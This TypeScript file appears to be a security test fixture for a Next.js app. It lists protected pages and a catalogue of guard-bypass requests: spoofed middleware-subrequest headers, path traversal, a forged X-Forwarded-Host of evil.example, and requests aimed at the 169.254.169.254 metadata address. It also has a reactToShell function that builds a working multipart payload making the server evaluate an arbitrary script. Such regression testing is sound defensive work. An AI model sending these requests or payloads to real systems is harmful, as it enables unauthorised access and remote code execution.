import type { OutgoingHttpHeaders } from 'node:http'

/** One address of every page and of every route of the API. */
export const PAGES = [
  '/',
  '/tasks?region=ap-guangzhou',
  '/tasks/default/ap-guangzhou/15970?start=2017-06-27T08:46:52Z',
  '/tasks/latest?region=ap-guangzhou',
  '/instances/cdb-c1nl9rpv',
  '/compare',
]
export const DATA = [
  '/api/tasks?region=ap-guangzhou',
  '/api/tasks/export?region=ap-guangzhou&format=csv',
  '/api/tasks/default/ap-guangzhou/15970?start=2017-06-27T08:46:52Z',
  '/api/tasks/default/ap-guangzhou/15970/details?start=2017-06-27T08:46:52Z',
  '/api/instances?keys=default/ap-guangzhou/cdb-c1nl9rpv',
  '/api/instances/cdb-c1nl9rpv/events',
  '/api/guidance',
]
export const OPEN = ['/auth?kind=signed-out', '/api/openapi.json', '/api/nowhere', '/healthz', '/readyz']

export interface Door {
  name: string
  /** Where it is, for a place without its query. */
  path?: (path: string) => string
  /** Added to the query of the place. */
  query?: string
  headers?: OutgoingHttpHeaders
}

const MULTIPART = 'multipart/form-data; boundary=part'

/** Ways past a guard that the framework has had, each tried with a reading method. */
export const FRAMEWORK_DOORS: Door[] = [
  { name: '.rsc', path: (path) => `${path === '/' ? '/index' : path}.rsc` },
  { name: '.rsc, escaped', path: (path) => `${path}%2ersc` },
  { name: 'segment tree', path: (path) => `${path}.segments/_tree.segment.rsc` },
  { name: 'segment page', path: (path) => `${path}.segments/$c$children/__PAGE__.segment.rsc` },
  { name: 'prefetch.rsc', path: (path) => `${path}.prefetch.rsc` },
  { name: '_next/data', path: (path) => `/_next/data/build${path}.json` },
  { name: '_next/image', path: (path) => `/_next/image?w=64&q=75&url=${encodeURIComponent(path)}` },
  { name: 'double slash', path: (path) => `/${path}` },
  { name: 'dot segment', path: (path) => `/healthz/..${path}` },
  { name: 'dot segment, escaped', path: (path) => `/healthz/%2e%2e${path}` },
  { name: 'path parameter', path: (path) => `/healthz;${path}` },
  { name: 'backslash', path: (path) => `/healthz\\..${path}` },
  { name: 'escaped slash', path: (path) => `/healthz%2f..${path}` },
  { name: 'absolute form', path: (path) => `http://127.0.0.1${path}` },
  { name: 'absolute form, of another host', path: (path) => `http://169.254.169.254${path}` },
  { name: 'upper case', path: (path) => path.toUpperCase() },
  { name: 'not-found page', path: () => '/_not-found' },
  { name: 'error page', path: () => '/_global-error' },
  { name: '?_rsc', query: '_rsc=1a2b3' },
  { name: '?nxtP', query: 'nxtPaccount=other' },
  { name: 'RSC', headers: { RSC: '1' } },
  { name: 'RSC and ?_rsc', query: '_rsc=1a2b3', headers: { RSC: '1' } },
  { name: 'prefetch', headers: { RSC: '1', 'Next-Router-Prefetch': '1' } },
  { name: 'prefetch of two', headers: { RSC: '1', 'Next-Router-Prefetch': '2' } },
  { name: 'segment prefetch', headers: { RSC: '1', 'Next-Router-Segment-Prefetch': '/_tree' } },
  { name: 'router state', headers: { RSC: '1', 'Next-Router-State-Tree': '%5B%22%22%2C%7B%7D%5D' } },
  { name: 'broken router state', headers: { RSC: '1', 'Next-Router-State-Tree': '%7B' } },
  { name: 'next-url', headers: { 'next-url': '/healthz' } },
  { name: 'subrequest', headers: { 'x-middleware-subrequest': Array(5).fill('proxy').join(':') } },
  { name: 'subrequest, in src', headers: { 'x-middleware-subrequest': Array(5).fill('src/proxy').join(':') } },
  { name: 'subrequest, as it was', headers: { 'x-middleware-subrequest': Array(5).fill('middleware').join(':') } },
  { name: 'middleware prefetch', headers: { 'x-middleware-prefetch': '1' } },
  { name: 'middleware rewrite', headers: { 'x-middleware-rewrite': '/healthz', 'x-middleware-next': '1' } },
  { name: 'resume', headers: { 'next-resume': '1' } },
  { name: 'resume with a length', headers: { 'next-resume': '1', 'x-next-resume-state-length': '1' } },
  { name: 'matched path', headers: { 'x-matched-path': '/healthz' } },
  { name: 'route matches', headers: { 'x-now-route-matches': '1=other' } },
  { name: 'invoke path', headers: { 'x-invoke-path': '/healthz', 'x-invoke-status': '200' } },
  { name: 'invoke error', headers: { 'x-invoke-error': '{"message":"no"}', 'x-invoke-status': '500' } },
  { name: 'data request', headers: { 'x-nextjs-data': '1' } },
  { name: 'revalidation', headers: { 'x-prerender-revalidate': 'id', 'x-prerender-revalidate-if-generated': '1' } },
  { name: 'action', headers: { 'Next-Action': 'a'.repeat(42) } },
  { name: 'parts', headers: { 'Content-Type': MULTIPART } },
  { name: 'own nonce', headers: { 'Content-Security-Policy': "script-src 'nonce-canary'", 'x-nonce': 'canary' } },
  { name: 'own host', headers: { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'https' } },
  { name: 'original address', headers: { 'X-Original-URL': '/healthz', 'X-Rewrite-URL': '/healthz' } },
  { name: 'forwarded address', headers: { 'X-Forwarded-Uri': '/healthz' } },
  { name: 'other method', headers: { 'X-HTTP-Method-Override': 'POST', 'X-HTTP-Method': 'DELETE' } },
  { name: 'health check', headers: { 'User-Agent': 'kube-probe/1.32' } },
  { name: 'load balancer', headers: { 'User-Agent': 'GoogleHC/1.0', 'X-Forwarded-For': '127.0.0.1' } },
  { name: 'preview', headers: { Cookie: '__prerender_bypass=1; __next_preview_data=1' } },
  { name: 'instant navigation', headers: { Cookie: 'next-instant-navigation-testing=1' } },
  { name: 'crawler', headers: { 'User-Agent': 'Googlebot/2.1' } },
]

/** The address of a place through a door. */
export function through({ path, query }: Door, place: string): string {
  const [plain = '', asked] = place.split(/\?(.*)/s)
  const there = path ? path(plain) : plain
  const all = [asked, query].filter(Boolean).join('&')
  return all ? `${there}${there.includes('?') ? '&' : '?'}${all}` : there
}

/** A body as it ran in 2025: the framework's own reader of actions was led to evaluate `script`. */
export function reactToShell(script: string) {
  const response = { _prefix: `${script};`, _chunks: '$Q2', _formData: { get: '$1:constructor:constructor' } }
  const head = '"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}"'
  const parts = [`{${head},"_response":${JSON.stringify(response)}}`, '"$@0"', '[]']
  const written = parts.map((part, at) => `--part\r\nContent-Disposition: form-data; name="${at}"\r\n\r\n${part}\r\n`)
  const body = `${written.join('')}--part--\r\n`
  return { body, headers: { 'Content-Type': MULTIPART, 'Content-Length': Buffer.byteLength(body), 'Next-Action': 'x' } }
}
